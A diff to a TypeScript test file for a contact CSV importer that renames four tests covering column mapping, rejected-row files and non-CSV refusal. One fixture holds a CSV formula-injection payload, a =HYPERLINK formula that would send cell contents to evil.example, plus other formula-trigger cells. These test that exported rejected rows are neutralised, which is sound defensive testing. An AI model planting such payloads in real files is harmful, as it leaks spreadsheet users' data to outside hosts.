@@ -21,7 +21,7 @@ const importText = (team: TestTeam, content: string | Buffer, segmentId?: string
 const emails = async (team: TestTeam) =>
   (await team.api.get('/v1/contacts?limit=100')).body.data.map(({ email }: { email: string }) => email)
 
-test('columns are known by name in any spelling and order, and others are left out and named', async () => {
+test('columns are recognized by name in any spelling and order, and others are ignored and reported', async () => {
   const team = await posthorn.team()
   const text =
     '\ufeffLast Name;City;"Phone-Number";EMAIL;first_name;unsubscribed\r\nLovelace;London; ;ada@example.com ;Ada;YES\r\n'
@@ -38,7 +38,7 @@ test('columns are known by name in any spelling and order, and others are left o
   assert.equal(again.unchanged, 1, 'empty cells clear nothing, and nobody is resubscribed')
 })
 
-test('rows that cannot be taken stand in a file of their own with the reason, ready to be corrected', async () => {
+test('rejected rows are written to a file with the reason, ready to be corrected', async () => {
   const team = await posthorn.team()
   const text =
     'email,first name\ngood@example.com,G\nbad,"a ""b"", c"\nshort@example.com\n\nx@example.com,"two\nlines"\n'
@@ -59,7 +59,7 @@ test('rows that cannot be taken stand in a file of their own with the reason, re
   assert.equal((await importText(team, corrected).result).created, 2)
 })
 
-test('no cell of the rejected rows is a formula to a spreadsheet, and corrected they import as they stood', async () => {
+test('a spreadsheet sees no formula in the rejected rows, and after correction they import unchanged', async () => {
   const team = await posthorn.team()
   const link = '=HYPERLINK(""http://evil.example/?""&A1,""Open"")'
   const text = `email,first name,last name,phone number,=cmd\nbad,"${link}",@SUM(A1),+61412345678,"\t-1"\n-bad,'=2,-3,,\n`
@@ -79,7 +79,7 @@ test('no cell of the rejected rows is a formula to a spreadsheet, and corrected 
   assert.deepEqual([bob.firstName, bob.lastName], ['=2', '-3'])
 })
 
-test('a file that is not CSV is refused with its line, and what stands before it is in', async () => {
+test('a file that is not CSV is refused with the line of the fault, and the rows before it are imported', async () => {
   const team = await posthorn.team()
   const refused = async (content: string | Buffer, message: RegExp) =>
     assert.rejects(importText(team, content).result, { message })
